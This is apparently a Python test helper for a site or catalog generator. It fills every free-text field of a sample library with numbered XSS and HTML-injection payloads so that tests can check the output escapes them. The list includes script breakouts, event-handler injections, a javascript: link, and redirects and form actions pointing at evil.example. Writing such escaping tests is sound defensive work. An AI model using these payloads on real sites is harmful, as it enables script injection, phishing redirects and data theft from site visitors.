"""The sample library with an attack in every field that takes free text, each with a number to know it by."""

from __future__ import annotations

import itertools
import re
from collections.abc import Mapping
from dataclasses import fields, replace
from typing import Any, Literal, get_origin

from pydantic import BaseModel, StringConstraints
from pydantic.fields import FieldInfo

from generator.model.catalog import Catalog
from generator.model.library import Library
from generator.model.record import alternatives
from generator.model.types import Prose, Ref, Url, Word
from tests.sample_library import HOSTILE, sample_library

__all__ = ["ATTACKS", "MARK", "attack_of", "hostile_library"]

ATTACKS = (
    HOSTILE,
    "<img src=x onerror=ran()>",
    '"><svg onload=ran()>',
    "' autofocus onfocus=ran() tabindex=0 x='",
    '" onmouseover="ran()" style="position:fixed;inset:0" x="',
    "</script><script>ran()</script>",
    "</title></textarea></style></template></noscript><script>ran()</script>",
    "<!-- --><script>ran()</script><!--",
    '<iframe srcdoc="<script>parent.ran()</script>">',
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    '<a href="javascript:ran()">x</a><form action=//evil.example><button>x</button></form>',
    "<details open ontoggle=ran()>{{ ran() }}{% raw %}${ran()}",
    "</p></li></ul></section></main></body></html><h1>x</h1>",
    "]]><math><mtext><table><mglyph><style><img src=x onerror=ran()>",
)
"""Texts that run, break out of an attribute, a script or a template, or rebuild the page, where nothing escapes them.

None means anything to Markdown but raw HTML, so that each must be seen letter by letter.
"""
MARK = re.compile(r" n(\d+)n")
_MEANT_FOR_MACHINES = {"period", "from_", "to", "at"}
"""Plain fields that name a period of a series."""


def attack_of(number: int) -> str:
    """The attack with this number, as it must be seen."""
    return f"{ATTACKS[number % len(ATTACKS)]} n{number}n"


def hostile_library() -> tuple[Library, int]:
    """The library, and how many attacks are in it."""
    library = sample_library()
    numbers = itertools.count()
    records = {field.name: getattr(library.catalog, field.name) for field in fields(Catalog)}
    changed = {
        name: _attacked_all(value, numbers)
        for name, value in records.items()
        if name not in ("relations", "files", "series")
    }
    return replace(library, catalog=replace(library.catalog, **changed)), next(numbers)


def _attacked_all(value: Any, numbers: itertools.count[int]) -> Any:
    if isinstance(value, Mapping):
        return {key: _attacked_all(record, numbers) for key, record in value.items()}
    if isinstance(value, tuple):
        return tuple(_attacked_all(record, numbers) for record in value)
    if isinstance(value, BaseModel):
        return _attacked(value, numbers)
    if hasattr(value, "head"):  # a hand-written page: its title and description; its text has tests of its own
        return replace(value, head=_attacked(value.head, numbers))
    return value


def _attacked(record: BaseModel, numbers: itertools.count[int]) -> BaseModel:
    """The record with every free text exchanged."""
    return record.model_copy(
        update={
            name: _exchanged(getattr(record, name), info, numbers)
            for name, info in type(record).model_fields.items()
            if name not in _MEANT_FOR_MACHINES
        }
    )


def _exchanged(value: Any, info: FieldInfo, numbers: itertools.count[int]) -> Any:
    if isinstance(value, list):
        return [_exchanged(item, info, numbers) for item in value]
    if isinstance(value, BaseModel):
        return _attacked(value, numbers)
    if isinstance(value, Prose):
        return Prose(attack_of(next(numbers)))
    if isinstance(value, str) and not isinstance(value, Url) and _is_free(info):
        return attack_of(next(numbers))
    return value


def _is_free(info: FieldInfo) -> bool:
    """Whether a field takes any text: it is no id, no word of a list, no choice and follows no pattern."""
    kinds = [(kind, (*found, *info.metadata)) for kind, found in alternatives(info.annotation)]
    texts = [found for kind, found in kinds if kind is str]
    closed = [found for found in texts if any(isinstance(mark, Ref | Word) or _has_pattern(mark) for mark in found)]
    return bool(texts) and not closed and not any(get_origin(kind) is Literal for kind, _ in kinds)


def _has_pattern(mark: Any) -> bool:
    if isinstance(mark, StringConstraints | FieldInfo):
        return getattr(mark, "pattern", None) is not None or any(
            _has_pattern(part) for part in getattr(mark, "metadata", ())
        )
    return getattr(mark, "pattern", None) is not None
